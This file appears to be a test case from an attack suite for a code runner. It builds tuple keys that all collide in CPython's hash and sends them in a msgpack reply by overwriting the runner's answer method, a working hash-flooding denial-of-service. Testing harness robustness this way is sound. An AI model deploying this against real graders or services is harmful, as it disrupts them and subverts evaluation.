# Attack: replies with a dict whose keys, pairs of numbers, all have the same hash
# Honest: 1
# At most: 1
# Seconds: 10

# %% task="1.1"
import struct

import msgpack
import numpy as np

from layerwise_runner.runner import Runner

# How CPython hashes a tuple: xxHash without a key. Its second round is turned round to meet a chosen hash.
FIRST, SECOND, START, ALL = 11400714785074694791, 14029467366897019727, 2870177450012600261, 2**64 - 1
COUNT = 20_000
ones = np.arange(2, 8 * COUNT, dtype=np.uint64)
state = np.uint64(START) + ones * np.uint64(SECOND)
state = ((state << np.uint64(31)) | (state >> np.uint64(33))) * np.uint64(FIRST)
goal = 0x1234567 * pow(FIRST, -1, 2**64) & ALL
goal = ((goal >> 31) | (goal << 33)) & ALL
twos = ((np.uint64(goal) - state) * np.uint64(pow(SECOND, -1, 2**64))).astype(np.int64)
fitting = np.abs(twos) < 2**61 - 2
pairs = list(zip(ones[fitting].tolist(), twos[fitting].tolist()))[:COUNT]

packer = msgpack.Packer(autoreset=False)
packer.pack_map_header(2)
packer.pack("output")
packer.pack("")
packer.pack("value")
packer.pack_map_header(len(pairs))
for pair in pairs:
    packer.pack_ext_type(2, msgpack.packb(pair))
    packer.pack(None)
body = packer.bytes()


def add(a, b):
    Runner.answer = lambda self, request: struct.pack("<I", len(body)) + body
